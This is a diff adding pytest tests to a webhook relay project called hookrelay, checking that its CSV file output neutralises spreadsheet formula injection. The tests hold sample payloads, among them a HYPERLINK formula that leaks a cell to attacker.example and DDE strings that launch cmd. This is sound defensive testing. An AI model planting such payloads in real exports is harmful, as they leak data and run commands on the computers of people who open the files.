@@ -11,6 +11,7 @@ from pathlib import Path
 
 import pytest
 
+from hookrelay.config import load_config
 from hookrelay.destinations import Context, Record
 from hookrelay.destinations.file import File
 from hookrelay.errors import ConfigError
@@ -45,8 +46,73 @@ def test_new_columns_extend_the_header_and_keep_rows_aligned(tmp_path):
     dest.send(records({"id": "2", "c": "y, with comma", "why": '=HYPERLINK("x")'}))
     assert read_csv(tmp_path / "rows.csv") == [
         {"id": "1", "b": "x", "c": "", "why": ""},
-        {"id": "2", "b": "", "c": "y, with comma", "why": '=HYPERLINK("x")'},
+        {"id": "2", "b": "", "c": "y, with comma", "why": '\'=HYPERLINK("x")'},
     ]
+
+
+ATTACKS = {
+    "link": '=HYPERLINK("https://attacker.example/?leak="&A1, "Click")',
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+}
+HARMLESS = {
+    "negative": -5,
+    "float": -1.5,
+    "negative_text": "-5",
+    "phone": "+32 470 12 34 56",
+    "inside": "a=b+c",
+    "flag": True,
+    "nested": {"x": "=1+1"},
+}
+
+
+def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(tmp_path):
+    file_destination(tmp_path, "rows.csv").send(records({**ATTACKS, **HARMLESS}))
+    [row] = read_csv(tmp_path / "rows.csv")
+    assert {k: row[k] for k in ATTACKS} == {k: "'" + v for k, v in ATTACKS.items()}
+    assert {k: row[k] for k in HARMLESS} == {
+        "negative": "-5",
+        "float": "-1.5",
+        "negative_text": "-5",
+        "phone": "+32 470 12 34 56",
+        "inside": "a=b+c",
+        "flag": "true",
+        "nested": '{"x": "=1+1"}',
+    }
+
+
+def test_escape_formulas_false_writes_cells_as_they_came(tmp_path):
+    dest = File("archive", Context(tmp_path, 5.0), path="rows.csv", escape_formulas=False)
+    dest.send(records(ATTACKS))
+    assert read_csv(tmp_path / "rows.csv") == [ATTACKS]
+
+
+def test_jsonl_is_written_as_the_record_is(tmp_path):
+    file_destination(tmp_path, "rows.jsonl").send(records(ATTACKS))
+    assert json.loads((tmp_path / "rows.jsonl").read_text(encoding="utf-8")) == ATTACKS
+
+
+@pytest.mark.parametrize(
+    ("path", "escaped"),
+    [
+        ("rows.csv", True),
+        ("rows.csv, escape_formulas: true", True),
+        ("rows.csv, escape_formulas: false", False),
+    ],
+)
+def test_escape_formulas_is_on_unless_config_yaml_says_false(tmp_path, monkeypatch, path, escaped):
+    monkeypatch.setenv("RELAY_TEST_STORAGE", "sqlite:///relay.db")
+    config = load_config(write_config(tmp_path, FILE_CONFIG.format(path=path), {"row": ROW}))
+    assert config.destinations["rows"].escape_formulas is escaped
+    wrong = write_config(tmp_path, FILE_CONFIG.format(path="rows.csv, escape_formulas: no way"))
+    with pytest.raises(ConfigError) as caught:
+        load_config(wrong)
+    assert str(caught.value) == (
+        f"{wrong}:6: destinations.rows.escape_formulas: expected true or false, got 'no way'"
+    )
 
 
 def test_jsonl_appends_one_object_per_line(tmp_path):
